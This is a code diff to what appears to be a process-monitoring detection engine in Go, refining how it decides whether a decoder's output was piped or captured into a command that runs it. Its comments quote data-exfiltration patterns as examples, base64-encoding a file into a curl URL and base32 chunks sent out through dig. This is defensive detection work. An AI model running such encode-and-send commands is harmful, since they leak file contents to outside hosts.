@@ -205,7 +205,10 @@ func pipeCheck(p, c, parent Stdio, relays func() ([]Stdio, bool), from, to strin
 	if !complete {
 		return PipeUnshown, from + " writes " + out.String() + " and " + to + " reads " + in.String() + ", and not every process that could join them was read"
 	}
-	return PipeRefuted, from + " writes " + out.String() + " and " + to + " reads " + in.String() + ", and no live sibling joins them"
+	// Two pipes no live relative joins: a filter that has exited leaves
+	// no trace (base32 f | fold | while read l; do dig …: fold is done
+	// before dig runs), so this shows nothing either way.
+	return PipeUnshown, from + " writes " + out.String() + " and " + to + " reads " + in.String() + ", and no live relative joins them (a filter may have exited)"
 }
 
 // pipeEvidence reads the pipe evidence of a completed sequence of s whose
@@ -240,6 +243,10 @@ func (e *Engine) pipeEvidence(x *evalCtx, s *signature, cur, h *seqHit, step int
 		c.In = cons.prog
 	case SourceInline:
 		v, why = inlineCheck(prod, from)
+		if cons.at.Before(prod.at) {
+			// Code captured from a decoder is run after it.
+			v, why = PipeRefuted, to+" ran before "+from
+		}
 	}
 	if cons.src.Kind != SourceInline && prod.capturedBy > 0 && (prod.capturedBy == cons.proc.PID || prod.capturedBy == cons.proc.PPID) {
 		// curl "http://x/$(base64 f)": the shell that captured the
@@ -273,6 +280,27 @@ func (e *Engine) pipeEvidence(x *evalCtx, s *signature, cur, h *seqHit, step int
 		imp = q.pipe.unpiped
 	}
 	return imp, m
+}
+
+// inlineShown reports whether a pair of s whose consumer runs inline code
+// has the evidence that makes it one: the producer's output captured by
+// the shell that ran the consumer, after it. Without descriptors (a
+// replay, a simulation) or with the producer gone, there is none: the
+// premise, a shell running what it read, is only seen live, and a decoder
+// beside a "sh -c" under one shell is everyday work (make, CI steps).
+func (e *Engine) inlineShown(s *signature, cur, h *seqHit, step int) bool {
+	q := s.seq
+	if q.pipe == nil || e.desc == nil {
+		return false
+	}
+	hits := [2]*seqHit{}
+	hits[step], hits[1-step] = cur, h
+	prod, cons := hits[q.pipe.from], hits[1-q.pipe.from]
+	if !prod.read {
+		return false
+	}
+	v, _ := inlineCheck(prod, q.names[q.pipe.from])
+	return v == PipeShown && !cons.at.Before(prod.at) && (prod.capturedBy == cons.proc.PID || prod.capturedBy == cons.proc.PPID)
 }
 
 // inlineCheck is the evidence that a decoder's output became the inline
